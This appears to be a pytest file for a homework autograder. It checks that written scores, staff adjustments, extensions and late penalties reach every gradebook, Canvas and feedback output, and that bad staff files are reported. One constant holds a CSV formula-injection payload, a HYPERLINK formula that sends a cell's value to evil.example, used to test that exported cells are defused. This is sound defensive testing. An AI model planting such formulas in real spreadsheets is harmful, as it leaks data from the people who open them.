"""From autograde to the final grade: written scores, staff adjustments and late days through every output
(gradebook.csv, canvas.csv, feedback.html, results.json, summary.html), and bad staff files.

The batches are built from stored results (tests/fixtures/sample_results.json): ``grade_all`` finds every
results.json in place, grades nothing and runs only its merge step, as a re-run of ``make grade`` does.
"""

import copy
import csv
import json
from pathlib import Path

import pytest

from autograder import batch, settings
from autograder.results import Results
from autograder.results.rows import Row

FIXTURE = json.loads((Path(__file__).parent / "fixtures" / "sample_results.json").read_text(encoding="utf-8"))
FIXTURE["extra_data"] = {}  # no figures to draw: these tests are about the staff files
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _batch(tmp_path, monkeypatch, course="", times=""):
    """Three stored submissions (ada 75.6, bob 75.6 with 2.1.3 at 4 of 10, carol failed) and the settings."""
    subs, out = tmp_path / "subs", tmp_path / "grades"
    subs.mkdir()
    bob = copy.deepcopy(FIXTURE)
    next(t for t in bob["tests"] if t["number"] == "2.1.3")["score"] = 4
    stored = {"ada": FIXTURE, "bob": bob, "carol": Results.failed("it broke").to_gradescope(leaderboard=False)}
    for ident, results in stored.items():
        (subs / f"{ident}.zip").write_bytes(b"not graded again: results.json is in place")
        Results.from_dict(results).write(out / ident / "results.json")
    # Stored results that hold a grade are not graded again; carol's grading broke, so each run tries it
    # again, and here it breaks every time.
    def breaks(job, cache_dir=None):
        raise RuntimeError("it broke")

    monkeypatch.setattr(batch, "_grade_local", breaks)
    if times:
        (subs / "submission_times.csv").write_text(times, encoding="utf-8")
    (tmp_path / "grading.yaml").write_text(course, encoding="utf-8")
    monkeypatch.setenv(settings.ENV_PATH, str(tmp_path / "grading.yaml"))
    return subs, out


def _grade(subs, out):
    notes: list[str] = []
    rows = batch.grade_all(subs, out, workers=1, progress=False, notes=notes)
    return {r.id: r for r in rows}, notes


def _csv(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _dicts(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return {line["id"]: line for line in csv.DictReader(handle)}


def _fill_written(out, lines):
    table = _csv(out / "written_scores.csv")
    assert table[0] == ["id", "name", "1.4", "1.4 comment", "1.5", "1.5 comment"]
    assert table[1] == ["Points Possible", "", "15", "", "10", ""]  # each question's maximum
    with open(out / "written_scores.csv", "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(table[:2] + lines)


LATE = "due: 2026-11-20 23:59 -08:00\ngrace_minutes: 30\nlate_penalty_per_day: 10\nlate_penalty_cap: 25\n"
TIMES = ("submission,submitted\nada,2026-11-21 00:20 -08:00\nbob,2026-11-22 09:00 -08:00\n"
         "carol,2026-11-19 12:00 -08:00\n")


def test_written_scores_adjustments_and_late_days_reach_every_output(tmp_path, monkeypatch):
    subs, out = _batch(tmp_path, monkeypatch, LATE, TIMES)
    _, notes = _grade(subs, out)
    # First run: the blank sheet is written, every total is blank (never guessed) and said so.
    assert _dicts(out / "gradebook.csv")["ada"]["final"] == ""
    assert any("ada has no valid score for 1.4, 1.5" in n for n in notes)
    assert _csv(out / "canvas.csv")[2][-1] == ""
    _fill_written(out, [["ada", "", "12", "derivation skips E[z^2]", "10", ""],
                        ["bob", "", "15", "", "7.5", "- beta too small: not explained"]])
    (out / "adjustments.csv").write_text(
        "submission,target,points,reason,who,when\n"
        "bob,2.1.3,3,regrade: the decoder's shape check was too strict,TA Kim,2026-11-25\n"
        "ada,2.3,-0.6,copied samples,Prof. Lee,2026-11-26\n", encoding="utf-8")
    rows, notes = _grade(subs, out)

    # results.json: the adjustments and the adjusted score
    bob = json.loads((out / "bob" / "results.json").read_text())
    assert [(a["target"], a["applied"], a["who"]) for a in bob["extra_data"]["adjustments"]] == [("2.1.3", 3, "TA Kim")]
    assert bob["score"] == pytest.approx(75.6 - 6 + 3)
    ada = json.loads((out / "ada" / "results.json").read_text())
    assert ada["score"] == pytest.approx(75.0)

    # gradebook.csv: autograded (adjusted), written, lateness, final out of 105
    book = _dicts(out / "gradebook.csv")
    assert (book["ada"]["total"], book["ada"]["2.3"], book["ada"]["written"]) == ("75", "10", "22")
    assert (book["ada"]["days late"], book["ada"]["late penalty %"]) == ("0", "0")  # inside the grace period
    assert book["ada"]["final"] == "97" and book["ada"]["max_final"] == "105"
    assert (book["bob"]["total"], book["bob"]["2.1"], book["bob"]["written"]) == ("72.6", "47", "22.5")
    assert (book["bob"]["days late"], book["bob"]["late penalty %"]) == ("2", "20")
    assert float(book["bob"]["final"]) == pytest.approx((72.6 + 22.5) * 0.8)
    assert book["carol"]["final"] == ""  # no written score: blank

    # canvas.csv: the total out of 105
    canvas = _csv(out / "canvas.csv")
    assert canvas[0][-1] == "HW7" and canvas[1][-1] == "105"
    assert {line[3]: line[-1] for line in canvas[2:]} == {"ada": "97", "bob": book["bob"]["final"], "carol": ""}

    # feedback.html: written scores, comments, the adjustment and the lateness
    page = (out / "bob" / "feedback.html").read_text()
    assert "7.5 / 10" in page and "- beta too small: not explained" in page
    assert "regrade: the decoder&#x27;s shape check was too strict" in page and "TA Kim" in page
    assert "2 day(s) late" in page and "-20%" in page and f"{num(float(book['bob']['final']))} / 105" in page
    assert "derivation skips E[z^2]" in (out / "ada" / "feedback.html").read_text()

    # summary.html: adjustments, lateness and what is missing
    summary = (out / "summary.html").read_text()
    assert "Staff adjustments: 2" in summary and "copied samples" in summary and "Late submissions: 1" in summary
    assert "carol has no valid score for 1.4, 1.5" in summary

    # written.html shows what the sheet holds so far
    sheet = (out / "written.html").read_text()
    assert 'data-q="1.5" min="0" max="10" step="0.5" value="7.5"' in sheet


def num(value):
    from autograder.reports.pages import num as shown

    return shown(value)


def test_separate_lms_columns(tmp_path, monkeypatch):
    subs, out = _batch(tmp_path, monkeypatch, "lms_columns: separate\nlms_written_column: HW7 written (7)\n")
    _grade(subs, out)
    _fill_written(out, [["ada", "", "12", "", "10", ""]])
    _grade(subs, out)
    canvas = _csv(out / "canvas.csv")
    assert canvas[0][-2:] == ["HW7", "HW7 written (7)"] and canvas[1][-2:] == ["80", "25"]
    assert {line[3]: line[-2:] for line in canvas[2:]} == {"ada": ["75.6", "22"], "bob": ["69.6", ""],
                                                           "carol": ["", ""]}


def test_an_adjustment_that_no_longer_matches_is_reported_and_kept(tmp_path, monkeypatch):
    subs, out = _batch(tmp_path, monkeypatch)
    _grade(subs, out)
    text = ("submission,target,points,reason,who,when\n"
            "bob,2.1.9,1,test renamed,TA,\n"
            "dave,2.1.3,1,student left,TA,\n"
            "bob,2.1.3,2,accepted,TA,\n")
    (out / "adjustments.csv").write_text(text, encoding="utf-8")
    _, notes = _grade(subs, out)
    assert any("adjustments.csv line 2: bob has no test or part '2.1.9'" in n for n in notes)
    assert any("adjustments.csv line 3: no submission 'dave'" in n for n in notes)
    assert (out / "adjustments.csv").read_text(encoding="utf-8") == text  # kept, never dropped
    summary = (out / "summary.html").read_text()
    assert "line 2: bob has no test or part" in summary and "line 3: no submission" in summary
    assert json.loads((out / "bob" / "results.json").read_text())["score"] == pytest.approx(71.6)  # line 4 applies
    # Taking the line out takes the adjustment out of results.json on the next run.
    (out / "adjustments.csv").write_text("submission,target,points,reason,who,when\n", encoding="utf-8")
    _grade(subs, out)
    bob = json.loads((out / "bob" / "results.json").read_text())
    assert "adjustments" not in bob["extra_data"] and bob["score"] == pytest.approx(69.6)


def test_an_adjustment_is_kept_within_the_tests_maximum(tmp_path, monkeypatch):
    subs, out = _batch(tmp_path, monkeypatch)
    (out / "adjustments.csv").write_text("submission,target,points,reason\nbob,2.1.3,9,generous\n", encoding="utf-8")
    _, notes = _grade(subs, out)
    assert any("bob 2.1.3 +9 would leave 0 to 10; +6 applied" in n for n in notes)
    assert json.loads((out / "bob" / "results.json").read_text())["score"] == pytest.approx(75.6)


@pytest.mark.parametrize(("content", "expected"), [
    ("id,name,1.4,1.4 comment,1.5,1.5 comment\nmallory,,10,,5,\nada,,10,,5,\n",
     "written_scores.csv line 2: no submission has the id 'mallory'"),
    ("id,name,1.4,1.4 comment,1.5,1.5 comment\nada,,10,,5,\nada,,11,,5,\n",
     "written_scores.csv line 3: repeats the submission 'ada' of line 2"),
    ("id,name,1.4,1.4 comment,1.5,1.5 comment\nbob,,16,,5,\nada,,10,,5,\n",
     "written_scores.csv line 2: 1.4 16 is out of range; skipped: it must be from 0 to 15"),
    ("id,name,1.4,1.4 comment,1.5,1.5 comment\nbob,,ten,,5,\nada,,10,,5,\n",
     "written_scores.csv line 2: 1.4 'ten' is not a number"),
    ("id,name,1.4,1.4 comment,1.5,1.5 comment\nbob,,10,a, b,5,\nada,,10,,5,\n",
     "written_scores.csv line 2: has 7 cells but the header has 6"),
])
def test_bad_written_sheet_lines_are_named_and_the_rest_applies(tmp_path, monkeypatch, content, expected):
    subs, out = _batch(tmp_path, monkeypatch)
    (out / "written_scores.csv").write_text(content, encoding="utf-8")
    _, notes = _grade(subs, out)
    assert any(n.startswith(expected) for n in notes), notes
    assert _dicts(out / "gradebook.csv")["ada"]["written"] == "15"  # the good line still applies
    assert expected.split(": ", 1)[1][:30] in (out / "summary.html").read_text().replace("&#x27;", "'")


@pytest.mark.parametrize(("content", "expected"), [
    ("submission,target,points,reason\nbob,2.1.3,two,why\n", "adjustments.csv line 2: points 'two' is not a number"),
    ("submission,target,points,reason\nbob,2.1.3,1,why\nbob,2.1.3,1,why\n", "adjustments.csv line 3: repeats line 2"),
    ("submission,target,points,reason\nbob,2.1.3,1,\n", "adjustments.csv line 2: has no reason"),
    ("submission,target,points,reason\nbob,2.1.3,1,\"why\"x\"\n", "adjustments.csv: could not be read as a UTF-8 CSV"),
    ("who,what\nbob,1\n", "adjustments.csv line 1: the header lacks the column(s) submission, target, points"),
])
def test_bad_adjustment_files_are_named_and_nothing_else_is_lost(tmp_path, monkeypatch, content, expected):
    subs, out = _batch(tmp_path, monkeypatch)
    (out / "adjustments.csv").write_text(content + ("" if "could not" in expected or "header" in expected
                                                    else "ada,2.3,1,kept\n"), encoding="utf-8")
    _, notes = _grade(subs, out)
    assert any(n.startswith(expected) for n in notes), notes
    if "could not" not in expected and "header" not in expected:  # the rest of the file still applies
        assert json.loads((out / "ada" / "results.json").read_text())["score"] == pytest.approx(76.6)
    assert {r for r in _dicts(out / "gradebook.csv")} == {"ada", "bob", "carol"}


def test_extensions_and_gradescope_times(tmp_path, monkeypatch):
    from autograder.results import late

    course = settings.Settings(due="2026-11-20 23:59 -08:00", late_penalty_per_day=10, late_penalty_cap=25)
    (tmp_path / "extensions.csv").write_text("submission,days\nbob,2\nbob,3\nada,x\n", encoding="utf-8")
    policy = late.policy(course, tmp_path)
    assert policy.extensions == {"bob": 2.0}
    assert [p.split(":")[0] for p in policy.problems] == ["extensions.csv line 3", "extensions.csv line 4"]
    # Gradescope's :created_at, as PyYAML reads it (a datetime) or as text
    assert policy.lateness("bob", "2026-11-22 10:00:00.000000000 -08:00").days_late == 0  # extended
    lateness = policy.lateness("ada", "2026-11-24 10:00:00.000000000 -08:00")
    assert (lateness.days_late, lateness.percent) == (4, 25)  # capped
    assert policy.lateness("ada", "2026-11-24 10:00") is None  # no time zone: never guessed


def test_every_csv_cell_is_defused_against_formulas(tmp_path, monkeypatch):
    from autograder.results import csvsafe
    from autograder.staff import lms

    assert csvsafe.cell(HOSTILE) == "'" + HOSTILE and csvsafe.cell("-1.5") == "-1.5"
    assert csvsafe.cell("@SUM(A1)") == "'@SUM(A1)" and csvsafe.cell("Ada") == "Ada"
    assert csvsafe.unescape(csvsafe.cell(HOSTILE)) == HOSTILE
    subs, out = _batch(tmp_path, monkeypatch)
    metadata = subs / "submission_metadata.yml"
    metadata.write_text("".join(f"{i}.zip:\n  :submitters:\n  - :name: '{HOSTILE}'\n    :email: '+{i}@x.edu'\n"
                                for i in ("ada", "bob", "carol")), encoding="utf-8")
    for ident in ("ada", "bob", "carol"):  # Gradescope's ids are the folder names
        (out / f"{ident}.zip").mkdir()
        (out / ident / "results.json").rename(out / f"{ident}.zip" / "results.json")
    _grade(subs, out)
    outputs = [out / "gradebook.csv", out / "canvas.csv", out / "written_scores.csv"]
    roster = tmp_path / "roster.csv"
    roster.write_text(f'Student,ID,SIS User ID,SIS Login ID,Section\n"{HOSTILE.replace(chr(34), 2 * chr(34))}",1,,'
                      "+ada.zip@x.edu,\n", encoding="utf-8")
    rows = [Row.from_dict({"id": "x", "name": HOSTILE, "email": "+ada.zip@x.edu", "status": "graded", "results": FIXTURE})]
    lms.canvas_csv(rows, tmp_path / "roster_canvas.csv", "HW7", 80, lms.read_roster(roster))
    outputs.append(tmp_path / "roster_canvas.csv")
    for path in outputs:
        cells = [c for line in _csv(path) for c in line]
        assert any(HOSTILE in c for c in cells), path
        assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:].replace(".", "").isdigit())], path


def test_an_adjustment_survives_a_forced_regrade(tmp_path, monkeypatch):
    """The quick parts graded for real (no re-training): FORCE=1 writes a fresh results.json, and the
    adjustments file applies again."""
    import variants

    from autograder import grader
    from hw7core import parts

    real_grade = grader.grade
    monkeypatch.setattr(grader, "grade", lambda *a, **k: real_grade(*a, **k, parts=parts.QUICK))
    solution = variants.replace(variants.load_solution(), "D_KL", "def D_KL(mu, logvar):\n    return mu.sum()\n")
    subs, out = tmp_path / "subs", tmp_path / "grades"
    variants.write(subs / "ada", solution, *variants.configs(variants.load_solution()), as_zip=True)
    (tmp_path / "grading.yaml").write_text("", encoding="utf-8")
    monkeypatch.setenv(settings.ENV_PATH, str(tmp_path / "grading.yaml"))
    graded = batch.grade_all(subs, out, workers=1, progress=False)[0].data["score"]
    (out / "adjustments.csv").write_text("submission,target,points,reason,who,when\n"
                                         "ada,1.4.2,2,late resubmission of the configs,Prof. Lee,2026-11-30\n",
                                         encoding="utf-8")
    batch.grade_all(subs, out, workers=1, progress=False)
    first = (out / "ada" / "results.json").stat().st_mtime_ns
    rows = batch.grade_all(subs, out, workers=1, progress=False, force=True)
    assert (out / "ada" / "results.json").stat().st_mtime_ns != first  # graded again
    results = json.loads((out / "ada" / "results.json").read_text())
    assert [a["reason"] for a in results["extra_data"]["adjustments"]] == ["late resubmission of the configs"]
    assert graded < 80 and results["score"] == pytest.approx(graded + 2)
    assert rows[0].data["score"] == pytest.approx(graded + 2)
    assert "late resubmission of the configs" in (out / "ada" / "feedback.html").read_text()


def test_bad_late_and_lms_settings_keep_their_defaults_and_say_so(tmp_path):
    path = tmp_path / "grading.yaml"
    path.write_text("lms_columns: both\ndue: next friday\nlate_penalty_per_day: 150\ngrace_minutes: 15\n",
                    encoding="utf-8")
    course = settings.load(path)
    assert (course.lms_columns, course.due, course.late_penalty_per_day, course.grace_minutes) == ("total", "", 0.0, 15.0)
    assert [p.split(": ")[1] for p in course.problems] == ["lms_columns", "due", "late_penalty_per_day"]


def test_similarity_csv_is_defused_too(tmp_path):
    from autograder.staff import similarity

    pair = similarity.Pair("@SUM_A1", "-cmd", 0.9, 0.9, 10)
    similarity.write_csv([pair], 0.5, tmp_path / "similarity.csv")
    assert _csv(tmp_path / "similarity.csv")[1][:2] == ["'@SUM_A1", "'-cmd"]


def test_gradescope_submission_times_reach_the_late_policy(tmp_path):
    from autograder.results import late

    (tmp_path / "submission_1").mkdir()
    (tmp_path / "submission_metadata.yml").write_text(
        "submission_1:\n  :submitters:\n  - :name: Ada\n  :created_at: 2026-11-20 10:00:00.000000000 -08:00\n",
        encoding="utf-8")
    job = batch.discover(tmp_path)[0]
    policy = late.policy(settings.Settings(due="2026-11-19 09:00 -08:00", late_penalty_per_day=10), tmp_path)
    assert policy.lateness(job.id, job.submitted) == late.Lateness(job.submitted, 2, 20)  # 25 hours: 2 started days
